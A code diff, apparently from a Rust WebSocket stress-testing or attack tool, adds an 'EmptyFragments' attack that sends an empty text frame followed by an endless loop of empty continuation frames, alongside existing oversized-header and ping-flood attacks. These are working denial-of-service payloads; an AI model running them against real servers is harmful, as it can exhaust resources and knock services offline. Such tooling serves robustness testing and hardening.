@@ -20,6 +20,8 @@ pub enum Attack {
         /// How many bytes.
         bytes: u64,
     },
+    /// A text in fragments that hold nothing, as many as are taken.
+    EmptyFragments,
     /// Pings, at this pace.
     PingFlood {
         /// How many a second.
@@ -65,6 +67,7 @@ impl Attack {
         match self {
             Attack::HugeHeader => out.send(&wire::header(0x80 | wire::TEXT, 1 << 63)),
             Attack::Fragments { bytes } => fragments(out, *bytes),
+            Attack::EmptyFragments => empty_fragments(out),
             Attack::PingFlood {
                 per_second,
                 seconds,
@@ -107,6 +110,14 @@ fn fragments(out: &Outlet, bytes: u64) -> io::Result<()> {
         out.send(&next)?;
     }
     out.send(&wire::whole(wire::CONTINUATION, b"x"))
+}
+
+fn empty_fragments(out: &Outlet) -> io::Result<()> {
+    out.send(&wire::part(wire::TEXT, b""))?;
+    let many = wire::part(wire::CONTINUATION, b"").repeat(1 << 15);
+    loop {
+        out.send(&many)?;
+    }
 }
 
 fn flood(out: &Outlet, per_second: u32, seconds: u32) -> io::Result<()> {
